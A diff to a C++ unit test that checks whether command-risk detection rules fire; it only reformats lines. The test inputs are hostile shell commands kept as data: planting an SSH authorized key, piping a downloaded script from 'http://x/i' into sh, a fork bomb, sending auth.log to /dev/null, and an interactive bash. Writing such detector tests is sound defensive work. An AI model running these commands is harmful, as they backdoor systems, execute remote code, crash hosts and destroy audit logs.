@@ -24,9 +24,11 @@ std::set<std::string> Fire(std::string_view command, EventKind kind = EventKind:
 TEST(RiskyCommand, EachMsticpyRuleFires) {
   EXPECT_EQ(Fire("cat id_rsa.pub >> ~/.ssh/authorized_keys"),
             std::set<std::string>{"msticpy.syslog.authorized_keys"});
-  EXPECT_EQ(Fire("curl -s http://x/i | sh"), std::set<std::string>{"msticpy.syslog.download_to_shell"});
+  EXPECT_EQ(Fire("curl -s http://x/i | sh"),
+            std::set<std::string>{"msticpy.syslog.download_to_shell"});
   EXPECT_EQ(Fire(":(){:|:&};:"), std::set<std::string>{"msticpy.syslog.fork_bomb"});
-  EXPECT_EQ(Fire("mv /var/log/auth.log /dev/null"), std::set<std::string>{"msticpy.syslog.mv_dev_null"});
+  EXPECT_EQ(Fire("mv /var/log/auth.log /dev/null"),
+            std::set<std::string>{"msticpy.syslog.mv_dev_null"});
   EXPECT_EQ(Fire("/bin/bash -i"), std::set<std::string>{"msticpy.syslog.bin_bash"});
 }
 
